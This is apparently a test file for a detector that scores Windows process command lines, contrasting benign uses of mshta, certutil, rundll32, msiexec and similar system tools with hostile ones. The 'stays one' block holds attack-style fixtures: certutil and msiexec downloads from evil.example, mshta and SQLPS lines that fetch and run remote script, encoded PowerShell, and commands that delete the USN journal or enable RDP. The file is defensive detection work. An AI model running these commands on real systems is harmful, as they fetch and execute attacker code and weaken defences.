import { describe, expect, test } from 'vitest'
import { scored } from '@/fixtures/detection/score-lines'

const DEVIATION = 4

const TASK = String.raw`svchost.exe ¦ CORP\ann ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`

describe('what install guides, batch files and own tools do is no deviation by itself', () => {
  test.each([
    `mshta.exe ¦ mshta vbscript:msgbox("Backup done",0,"Backup")(window.close) ¦ cmd.exe`,
    `mshta.exe ¦ mshta.exe vbscript:CreateObject("WScript.Shell").Popup("Restart at noon",60,"IT",64)(window.close) ¦ cmd.exe`,
    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox ""Maintenance at 6"",64,""IT"":close") ¦ cmd.exe`,
    String.raw`cscript.exe ¦ cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs PRINT01 "LDAP://OU=Printers,DC=corp,DC=example" ¦ cmd.exe`,
    String.raw`certutil.exe ¦ certutil -urlcache -split -f http://crl3.digicert.com/root/ca2.crl C:\temp\ca2.crl ¦ cmd.exe`,
    'certutil.exe ¦ certutil -urlcache -f http://crl.authority.example/root/ca2.crl ¦ cmd.exe',
    String.raw`certutil.exe ¦ certutil -urlcache -f http://pki.corp.local/ca2.crl C:\temp\ca2.crl ¦ cmd.exe`,
    'mshta.exe ¦ mshta "javascript:alert(\'Please restart\');window.close();" ¦ cmd.exe',
    'mshta.exe ¦ mshta vbscript:msgbox("Backup done" & vbCrLf & "Please wait",64,"IT")(window.close) ¦ cmd.exe',
    'msiexec.exe ¦ msiexec /i https://packages.vendor.example/agent.msi ¦ explorer.exe',
    'certutil.exe ¦ certutil -decode licence.txt licence.dat ¦ explorer.exe',
    String.raw`forfiles.exe ¦ forfiles /p D:\logs /m *.log /d -30 /c "cmd /c if @isdir==FALSE del @path" ¦ cmd.exe`,
    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\Downloads\Config.exe" -d C:\Users\ann\Downloads ¦ explorer.exe`,
    'rundll32.exe ¦ rundll32.exe shell32.dll,Control_RunDLL srchadmin.dll ¦ explorer.exe',
    String.raw`wmic.exe ¦ wmic shadowcopy call create Volume=C:\ ¦ cmd.exe`,
    String.raw`wmic.exe ¦ wmic process call create "C:\Program Files\Vendor\agent.exe -x" ¦ cmd.exe`,
    'msbuild.exe ¦ msbuild app.csproj /p:Configuration=Release /m ¦ cmd.exe',
    String.raw`ftp.exe ¦ ftp -n -s:D:\erp\edi\carrier.ftp ¦ cmd.exe`,
    String.raw`fsutil.exe ¦ fsutil file createnew d:\dummy 104857600 ¦ cmd.exe`,
    String.raw`fsutil.exe ¦ fsutil file createnew C:\Temp\test.bin 104857600 ¦ cmd.exe`,
    String.raw`procdump.exe ¦ procdump -ma -e broker.exe D:\dumps ¦ cmd.exe`,
    'msconfig.exe ¦ msconfig.exe -4 ¦ explorer.exe',
    String.raw`wab.exe ¦ "C:\Program Files\Windows Mail\wab.exe" /contact "C:\Users\ann\Downloads\bob.vcf" ¦ explorer.exe`,
    'rundll32.exe ¦ rundll32.exe tsworkspace.dll,WorkspaceStatusNotify2 ¦ explorer.exe',
    String.raw`cscript.exe ¦ cscript //nologo "C:\Program Files\Vendor\fetch.vbs" /url:https://vendor.example/a.xml ¦ services.exe ¦ SYSTEM`,
    String.raw`cscript.exe ¦ cscript //nologo "C:\Program Files\Vendor\inventory.vbe" ¦ services.exe ¦ SYSTEM`,
    'regsvr32.exe ¦ regsvr32 MSCOMCTL.OCX ¦ cmd.exe',
    String.raw`installutil.exe ¦ InstallUtil.exe "C:\Utilities\Watcher\Watcher.exe" ¦ cmd.exe`,
    String.raw`regasm.exe ¦ regasm C:\cells\Cells.dll /codebase ¦ cmd.exe`,
    'regasm.exe ¦ RegAsm.exe /codebase Reader.dll ¦ cmd.exe',
    'installutil.exe ¦ InstallUtil.exe Watcher.exe ¦ powershell.exe',
    String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\projects\bot\hidden.vbs" ¦ ${TASK}`,
    String.raw`cscript.exe ¦ cscript //E:JScript //nologo "C:\tools\sort.bat" /i ¦ cmd.exe`,
    String.raw`hh.exe ¦ "C:\Windows\hh.exe" "C:\Users\ann\Documents\manuals\plc.chm" ¦ explorer.exe`,
    String.raw`forfiles.exe ¦ forfiles /p "D:\media" /m *.wav /c "cmd /c ffmpeg -i @file @fname.mp3" ¦ cmd.exe`,
    String.raw`installutil.exe ¦ InstallUtil.exe "D:\Services\Collector\Collector.exe" ¦ powershell.exe`,
    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\Downloads\Config.exe" -c ¦ svchost.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe "C:\Users\ann\AppData\Local\Temp\nsiDB6F.tmp\ui.dll",Setup ¦ setup.exe@C:\Users\ann\Downloads\setup.exe`,
    String.raw`msiexec.exe ¦ msiexec.exe /i "C:\Users\ann\AppData\Local\Temp\chocolatey\git\git.msi" /qn ¦ choco.exe@C:\ProgramData\chocolatey\choco.exe`,
    String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" C:\Windows\System32\inetcpl.cpl,ClearMyTracksByProcess Flags:276824072 WinX:0 WinY:0 IEFrame:0000000000000000 ¦ outlook.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Windows Photo Viewer\PhotoViewer.dll", ImageView_Fullscreen C:\Users\ann\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\AB12\plan.jpg ¦ outlook.exe`,
    String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" "C:\Windows\System32\ieframe.dll",OpenURL C:\Users\ann\Favorites\Orders 0707.url ¦ explorer.exe`,
    String.raw`installutil.exe ¦ InstallUtil.exe /u "C:\Users\ann\Documents\Visual Studio\Projects\Portal\bin\Debug\Portal.exe" ¦ cmd.exe`,
    String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace root/vendor -ProviderName vendor -Path "C:\Program Files\Vendor\vendor.dll" ¦ msiexec.exe ¦ SYSTEM`,
    'rundll32.exe ¦ rundll32.exe url.dll,FileProtocolHandler mailto:help@example.com?subject=Question%20on%20plans ¦ explorer.exe',
    String.raw`provlaunch.exe ¦ C:\Windows\System32\provlaunch.exe 5 ¦ svchost.exe ¦ SYSTEM ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
    String.raw`msiexec.exe ¦ C:\Windows\syswow64\MsiExec.exe /Y "C:\Program Files (x86)\Canon\MF Scan Utility\cnmfshl.dll" ¦ msiexec.exe ¦ SYSTEM`,
    String.raw`regsvr32.exe ¦ "C:\Windows\SysWOW64\regsvr32.exe" /s "C:\Surgery\EMR\chart.ocx" ¦ msiexec.exe ¦ SYSTEM`,
    String.raw`vstest.console.exe@C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\Extensions\TestPlatform\vstest.console.exe ¦ vstest.console.exe C:\qa\suites\smoke\Harbour.UiTests.dll /logger:trx ¦ cmd.exe`,
    String.raw`verclsid.exe ¦ "C:\Windows\system32\verclsid.exe" /S /C {00020906-0000-0000-C000-000000000046} /I {00000112-0000-0000-C000-000000000046} /X 0x5 ¦ winword.exe`,
    String.raw`rundll32.exe ¦ C:\Windows\system32\rundll32.exe C:\Windows\system32\spool\DRIVERS\x64\3\hpmsn140.dll,MonitorPrintJobStatus /pjob=12 /pname="HP LaserJet M507" ¦ winword.exe`,
    'rundll32.exe ¦ rundll32.exe shell32.dll,ShellExec_RunDLL ms-settings:printers ¦ explorer.exe',
    String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,OpenAs_RunDLL \\FS01\Common\IM000123.dcm ¦ explorer.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie docs.corp.local http://docs.corp.local/notes ¦ svchost.exe`,
    String.raw`msdt.exe ¦ C:\Windows\system32\msdt.exe -path C:\Windows\diagnostics\index\PCWDiagnostic.xml -af C:\Users\ann\AppData\Local\Temp\PCWBE88.xml /skip TRUE ¦ pcwrun.exe`,
    String.raw`provlaunch.exe ¦ C:\Windows\System32\provlaunch.exe LogonIdleTask ¦ svchost.exe ¦ SYSTEM ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
    String.raw`rasautou.exe ¦ rasautou -f "C:\Users\ann\AppData\Roaming\Microsoft\Network\Connections\Pbk\rasphone.pbk" -e "VPN" ¦ svchost.exe`,
    String.raw`wab.exe ¦ "C:\Program Files\Windows Mail\wab.exe" /contact "C:\Users\ann\Downloads\bob.contact" ¦ explorer.exe`,
    'regsvr32.exe ¦ regsvr32 /s scrrun.dll ¦ cmd.exe',
    'rundll32.exe ¦ rundll32 shell32.dll,Control_RunDLL odbccp32.cpl ¦ cmd.exe',
    String.raw`mshta.exe ¦ "C:\Windows\SysWOW64\mshta.exe" "\\FS01\Apps\roster.hta" ¦ explorer.exe`,
    String.raw`msiexec.exe ¦ msiexec /i "C:\Windows\TEMP\{EC542D5D-B608-4145-A8F7-749C02BE6D94}\Update.msi" /qn ¦ vendor-update_win64.exe@C:\ProgramData\Vendor\Downloads\vendor-update_win64.exe ¦ SYSTEM`,
    String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\150\Tools\Binn\SQLPS.exe ¦ "C:\Program Files (x86)\Microsoft SQL Server\150\Tools\Binn\SQLPS.exe" -command Set-Location SQLSERVER:\SQLPolicy ¦ sqlagent.exe`,
    String.raw`bginfo.exe ¦ Bginfo.exe \\corp.local\NETLOGON\BGInfo\rds.bgi /timer:0 /nolicprompt /silent ¦ explorer.exe`,
    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /d "C:\Program Files\MSBuild\FileTracker\FileTracker32.dll" /c "C:\Program Files\VC\CL.exe" /d "WIN32" /c a.cpp ¦ -`,
    String.raw`wab.exe ¦ "C:\Program Files\Windows Mail\wab.exe" /contact "P:\Contacts\bob.contact" ¦ explorer.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie corp.sharepoint.com@SSL https://corp.sharepoint.com/sites/docs ¦ svchost.exe`,
    'msiexec.exe ¦ msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi ¦ powershell.exe',
    String.raw`installutil.exe ¦ InstallUtil.exe "C:\Users\ann\Desktop\portal\bin\Debug\Portal.exe" ¦ cmd.exe`,
    'csc.exe ¦ csc ¦ cmd.exe',
    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Program Files\Vendor\Config.exe" ¦ svchost.exe`,
    String.raw`forfiles.exe ¦ forfiles /p D:\logs /m *.log /c "cmd /c findstr /i error @path" ¦ cmd.exe`,
  ])('%s', (line) => {
    expect(scored(line).bits).toBeLessThan(DEVIATION)
  })
})

describe('and what looks like it stays one', () => {
  test.each([
    String.raw`installutil.exe ¦ InstallUtil.exe /logfile= /LogToConsole=false C:\Utilities\Watcher.exe ¦ cmd.exe`,
    String.raw`installutil.exe ¦ InstallUtil.exe /U C:\Utilities\Watcher.exe ¦ cmd.exe`,
    String.raw`regasm.exe ¦ regasm /U C:\cells\Cells.dll ¦ cmd.exe`,
    'regasm.exe ¦ RegAsm.exe Reader.dll ¦ cmd.exe',
    'installutil.exe ¦ InstallUtil.exe Watcher.dll ¦ powershell.exe',
    String.raw`msiexec.exe ¦ msiexec.exe /i C:\Users\ann\AppData\Local\Temp\SCAN-287004.pdf.msi ¦ -`,
    String.raw`wscript.exe ¦ "C:\Windows\System32\WScript.exe" "C:\Users\ann\Desktop\708.js" ¦ -`,
    String.raw`cscript.exe ¦ cscript .\drop.vbe ¦ cmd.exe`,
    String.raw`cscript.exe ¦ cscript C:\Windows\System32\manage-bde.wsf ¦ cmd.exe`,
    String.raw`cscript.exe ¦ cscript C:\Users\ann\AppData\Local\Temp\get.vbs http://203.0.113.7/a.exe ¦ cmd.exe`,
    'regsvr32.exe ¦ regsvr32 MSCOMCTLS.OCX ¦ explorer.exe',
    'rundll32.exe ¦ rundll32.exe shell32.dll,SHCreateLocalServerRunDll {c08afd90-f2a1-11d1-8455-00a0c91f3880} -Embedding ¦ svchost.exe',
    String.raw`control.exe ¦ control.exe C:\Users\ann\Desktop\calc.cpl ¦ -`,
    String.raw`msiexec.exe ¦ msiexec.exe /i "C:\Users\ann\Downloads\4f50d6a520db0bcf43ebd8d5fda0245b9a74c788164c99a9236f4f11465a37af.msi" ¦ explorer.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Vendor\a.dll",StartW ¦ powershell.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe ieframe.dll,OpenURL C:\Users\ann\Favorites\Orders 0707.exe ¦ cmd.exe`,
    String.raw`verclsid.exe ¦ "C:\Windows\system32\verclsid.exe" /S /C {06290BD2-48AA-11D2-8432-006008C3FBFC} /I {00000112-0000-0000-C000-000000000046} /X 0x5 ¦ winword.exe`,
    String.raw`rundll32.exe ¦ C:\Windows\system32\rundll32.exe C:\ProgramData\HP\hpmsn140.dll,MonitorPrintJobStatus /pjob=12 ¦ winword.exe`,
    'rundll32.exe ¦ rundll32.exe shell32.dll,ShellExec_RunDLL notes.txt:printers.exe ¦ explorer.exe',
    String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,OpenAs_RunDLL \\FS01\Common\IM000123.hta ¦ explorer.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 203.0.113.9@80 http://203.0.113.9/notes ¦ svchost.exe`,
    String.raw`msdt.exe ¦ C:\Windows\system32\msdt.exe -path C:\Windows\diagnostics\index\PCWDiagnostic.xml -af C:\Users\ann\AppData\Local\Temp\PCWBE88.xml /skip TRUE ¦ cmd.exe`,
    String.raw`rasautou.exe ¦ rasautou -d C:\Users\ann\AppData\Roaming\Microsoft\Network\Connections\Pbk\a.dll -p run -e "VPN" ¦ svchost.exe`,
    'regsvr32.exe ¦ regsvr32 /s scrrun2.dll ¦ explorer.exe',
    String.raw`mshta.exe ¦ "C:\Windows\SysWOW64\mshta.exe" "\\fs01.evil.example\Apps\roster.hta" ¦ explorer.exe`,
    String.raw`msiexec.exe ¦ msiexec /i "C:\Windows\TEMP\Update.msi" /qn ¦ helper.exe@C:\ProgramData\Vendor\Downloads\helper.exe ¦ SYSTEM`,
    'fsutil.exe ¦ fsutil behavior set SymlinkEvaluation R2R:1 ¦ cmd.exe',
    `wmic.exe ¦ wmic product where "name like 'Veeam%'" call uninstall /nointeractive ¦ cmd.exe`,
    String.raw`pcalua.exe ¦ pcalua.exe -a rundll32.exe -c C:\Users\ann\AppData\Local\Temp\inv\scan.cpl,CPlApplet ¦ explorer.exe`,
    'rundll32.exe ¦ rundll32.exe shell:a.dll,Start ¦ explorer.exe',
    'rundll32.exe ¦ rundll32.exe mailto:a@b.dll,Start ¦ explorer.exe',
    'rundll32.exe ¦ rundll32.exe zipfldr.dll,RouteTheCall shell:::{769f9427-3cc6-4b62-be14-2a705115b7ab} ¦ cmd.exe',
    String.raw`installutil.exe ¦ InstallUtil.exe /logfile= /LogToConsole=false /u "C:\Users\ann\Documents\Projects\Portal\bin\Debug\Portal.exe" ¦ cmd.exe`,
    String.raw`installutil.exe ¦ InstallUtil.exe /u "C:\Users\ann\Documents\Portal.exe" ¦ cmd.exe`,
    String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace root/vendor -ProviderName vendor -Path "C:\ProgramData\vendor.dll" ¦ msiexec.exe ¦ SYSTEM`,
    String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace root/vendor -ProviderName vendor -Path "C:\Program Files\Vendor\vendor.dll" ¦ cmd.exe`,
    'rundll32.exe ¦ rundll32.exe url.dll,FileProtocolHandler mailto:test%../../../../windows/system32/calc.exe".cmd ¦ explorer.exe',
    String.raw`provlaunch.exe ¦ provlaunch.exe Refresh ¦ svchost.exe ¦ SYSTEM ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
    String.raw`msiexec.exe ¦ msiexec /y C:\Users\ann\AppData\Local\Temp\setup.dll ¦ msiexec.exe ¦ SYSTEM`,
    String.raw`regsvr32.exe ¦ regsvr32 /s C:\Users\Public\chart.ocx ¦ msiexec.exe ¦ SYSTEM`,
    String.raw`vstest.console.exe@C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\Extensions\TestPlatform\vstest.console.exe ¦ vstest.console.exe C:\Users\Public\tests.dll ¦ cmd.exe`,
    `mshta.exe ¦ mshta vbscript:msgbox(CreateObject("WScript.Shell").Run("calc"))(window.close) ¦ cmd.exe`,
    `mshta.exe ¦ mshta vbscript:CreateObject("WScript.Shell").Popup(CreateObject("WScript.Shell").Run("calc"))(window.close) ¦ cmd.exe`,
    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox 1:CreateObject(""WScript.Shell"").Run ""calc"":close") ¦ cmd.exe`,
    `mshta.exe ¦ mshta vbscript:msgbox("${'wait '.repeat(30)}")(CreateObject("WScript.Shell").Run("calc")) ¦ cmd.exe`,
    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox 1:" & Chr(65) & ":close") ¦ cmd.exe`,
    String.raw`cscript.exe ¦ cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://evil.example/a.sct ¦ cmd.exe`,
    `mshta.exe ¦ mshta "javascript:alert(1);Function('new Act'+'iveXObject(1)')()" ¦ cmd.exe`,
    `mshta.exe ¦ mshta "javascript:alert('a%27);Function(%27b%27)()//')" ¦ cmd.exe`,
    `mshta.exe ¦ mshta "javascript:alert('');location='http:'+'//evil.example'" ¦ cmd.exe`,
    String.raw`mshta.exe ¦ mshta "javascript:alert('\'');Function('a');''" ¦ cmd.exe`,
    String.raw`wmic.exe ¦ wmic process call create "C:\Windows\System32\cmd.exe /c powershell -enc SQBFAFgA" ¦ cmd.exe`,
    'msiexec.exe ¦ msiexec /i https://packages.evil.example/setup.msi /qn ¦ explorer.exe',
    `msiexec.exe ¦ msiexec /i https://packages.evil.example/setup.msi /quiet ¦ ${TASK}`,
    'certutil.exe ¦ certutil -decode b64.txt svc.exe ¦ explorer.exe',
    'certutil.exe ¦ certutil -decode b64.txt svc.exe ¦ -',
    String.raw`wscript.exe ¦ wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc" x ¦ cmd.exe`,
    String.raw`forfiles.exe ¦ forfiles /p C:\Windows /m notepad.exe /c "cmd /c if 1==1 C:\Users\Public\a.exe" ¦ cmd.exe`,
    String.raw`forfiles.exe ¦ forfiles /p C:\Users\Public /m a.exe /c "cmd /c @file" ¦ cmd.exe`,
    String.raw`forfiles.exe ¦ forfiles /p C:\Users\Public /m a.exe /c "cmd /c call start @path" ¦ cmd.exe`,
    String.raw`pcalua.exe ¦ pcalua -a C:\Users\bob\Downloads\a.exe -d C:\ ¦ cmd.exe`,
    String.raw`pcalua.exe ¦ pcalua -a C:\Users\bob\Downloads\a.exe -d C:\ ¦ ${TASK}`,
    'msbuild.exe ¦ msbuild evil.csproj /nologo /m /v:q ¦ cmd.exe',
    String.raw`rundll32.exe ¦ rundll32 D:\docs\files\a.dll,Start ¦ cmd.exe`,
    String.raw`rundll32.exe ¦ rundll32 \\cdn-updates.example\netlogon\core.dll,Start ¦ cmd.exe`,
    'certutil.exe ¦ certutil -urlcache -split -f http://evil.example/a/update.crl ¦ cmd.exe',
    String.raw`certutil.exe ¦ certutil -urlcache -f http://evil.example/a/update.crl C:\temp\a.crl ¦ cmd.exe`,
    String.raw`certutil.exe ¦ certutil -urlcache -f http://203.0.113.7/ca2.crl C:\temp\ca2.crl ¦ cmd.exe`,
    String.raw`certutil.exe ¦ certutil -urlcache -f http://evil.example/ca2.crl C:\temp\ca2.dll ¦ cmd.exe`,
    String.raw`msbuild.exe ¦ MSBuild.exe "C:\ProgramData\Microsoft\VisualStudio\restore.proj" /nologo ¦ ${TASK}`,
    String.raw`ftp.exe ¦ ftp -s:D:\erp\edi\carrier.dll ¦ cmd.exe`,
    'ftp.exe ¦ ftp -s:commands.txt ¦ cmd.exe',
    'msconfig.exe ¦ msconfig.exe -5 ¦ cmd.exe',
    String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\AppData\Roaming\hidden.vbs" ¦ ${TASK}`,
    String.raw`cscript.exe ¦ cscript //E:JScript C:\tools\notes.txt ¦ cmd.exe`,
    String.raw`forfiles.exe ¦ forfiles /p C:\Windows\System32 /m notepad.exe /c calc.exe ¦ cmd.exe`,
    'pcalua.exe ¦ pcalua.exe -a mshta.exe -c https://x.evil.example/i ¦ explorer.exe',
    String.raw`rundll32.exe ¦ rundll32.exe "C:\Users\ann\AppData\Local\Temp\ui.dll",Setup ¦ setup.exe@C:\Users\ann\Downloads\setup.exe`,
    'msiexec.exe ¦ msiexec /q /i https://packages.evil.example/api ¦ cmd.exe',
    String.raw`rundll32.exe ¦ rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\Tests\a.inf ¦ cmd.exe`,
    'sqlps.exe ¦ SQLPS.exe -command Invoke-Expression (iwr http://evil.example/a) ¦ sqlagent.exe',
    String.raw`bginfo.exe ¦ Bginfo.exe \\evil.example\NETLOGON\BGInfo\rds.bgi /popup /nolicprompt ¦ explorer.exe`,
    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /d .\payload.dll /c C:\Windows\write.exe ¦ -`,
    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie corp.sharepoint.com.203.0.113.9@80 http://203.0.113.9/sharepoint.com/ ¦ svchost.exe`,
    'msiexec.exe ¦ msiexec.exe /i https://awscli.amazonaws.com.evil.example/AWSCLIV2.msi ¦ powershell.exe',
    String.raw`installutil.exe ¦ InstallUtil.exe /u "C:\Users\ann\Desktop\Portal.exe" ¦ cmd.exe`,
    String.raw`jsc.exe ¦ "C:\Windows\Microsoft.NET\Framework\v4.0.30319\jsc.exe" ¦ explorer.exe`,
    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Program Files\Vendor\Config.exe" ¦ ${TASK}`,
    String.raw`forfiles.exe ¦ forfiles /p D:\web /s /m web.config /c "cmd /c findstr /i connectionString @path" ¦ cmd.exe`,
    'wmic.exe ¦ wmic computersystem where name="WS1" call unjoindomainorworkgroup ¦ cmd.exe',
    String.raw`msbuild.exe ¦ C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe "C:\Program Files\Vendor\Sheet.proj" /nologo /v:q ¦ ${TASK}`,
    String.raw`mshta.exe ¦ mshta ftp:\evil.example\a.hta ¦ cmd.exe`,
    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /r "x /c y" /d "C:\Program Files\Vendor\a.dll" /c C:\Windows\write.exe ¦ -`,
  ])('%s', (line) => {
    expect(scored(line).bits).toBeGreaterThanOrEqual(DEVIATION)
  })
})

test("a team's own script from its share ranks behind one that a document brought", () => {
  const own = scored(String.raw`wscript.exe ¦ wscript.exe "\\FILES\team$\macros\close.vbs" ¦ excel.exe`)
  const brought = scored(String.raw`wscript.exe ¦ wscript.exe "C:\ProgramData\close.vbs" ¦ excel.exe`)
  expect(own.bits).toBeLessThan(brought.bits)
})

test('a package by its proper name from a named server over TLS ranks behind one that hides what it is', () => {
  const named = scored('msiexec.exe ¦ msiexec /i https://packages.vendor.example/agent-4.7.msi /q ¦ cmd.exe')
  const numbered = scored('msiexec.exe ¦ msiexec /i http://203.0.113.7:8080/agent.msi /q ¦ cmd.exe')
  expect(named.bits).toBeLessThan(numbered.bits)
})

test('a class that rundll32 activates within itself ranks before one that COM serves', () => {
  const [within, served] = ['-sta', '-localserver'].map(
    (how) =>
      scored(`rundll32.exe ¦ rundll32.exe ${how} {11111111-2222-3333-4444-555555555555} ¦ svchost.exe`).bits,
  )
  expect(within).toBeGreaterThan(served ?? Number.POSITIVE_INFINITY)
})

describe('what is planted shows where', () => {
  test.each([
    [String.raw`wmic.exe ¦ wmic os get caption ¦ locker.exe@C:\Users\Public\locker.exe`, 'planted-parent'],
    [`wscript.exe ¦ wscript.exe report.js ¦ ${TASK}`, 'unplaced-script'],
    [String.raw`cscript.exe ¦ cscript C:\PerfLogs\find.vbs ¦ cmd.exe`, 'idle-folder'],
    [String.raw`wscript.exe ¦ wscript.exe C:\Windows\System32\drivers\dri.vbs ¦ ${TASK}`, 'stray-script'],
    [String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\e4f2\run.vbs ¦ ${TASK}`, 'random-folder'],
    [
      String.raw`regsvr32.exe ¦ regsvr32.exe C:\Windows\SysWOW64\Kdueh\wwsq.dll ¦ services.exe`,
      'stray-folder',
    ],
    ['fsutil.exe ¦ fsutil usn deletejournal /D C: ¦ cmd.exe', 'weakens-defence'],
    [
      `wmic.exe ¦ wmic path win32_terminalservicesetting where (__CLASS != "") call setallowtsconnections 1 ¦ cmd.exe`,
      'weakens-defence',
    ],
    [
      'msiexec.exe ¦ msiexec /x {4c8ae4f8-0e2d-4b6b-9b1f-5b7e6a1d0a11} /qn UNINSTALL_PASSWORD=x ¦ cmd.exe',
      'weakens-defence',
    ],
  ])('%s: %s', (line, code) => {
    expect(scored(line).codes).toContain(code)
  })

  test("Windows' own scripts, products' folders and policies' scripts are none of it", () => {
    for (const line of [
      String.raw`cscript.exe ¦ cscript C:\Windows\System32\slmgr.vbs /dlv ¦ cmd.exe`,
      String.raw`wscript.exe ¦ wscript.exe C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.vbs ¦ gpscript.exe`,
      String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\Dell\run.vbs ¦ ${TASK}`,
    ])
      expect(scored(line).codes).not.toEqual(expect.arrayContaining(['stray-script']))
    expect(
      scored(String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\Dell\run.vbs ¦ ${TASK}`).codes,
    ).not.toContain('random-folder')
  })
})
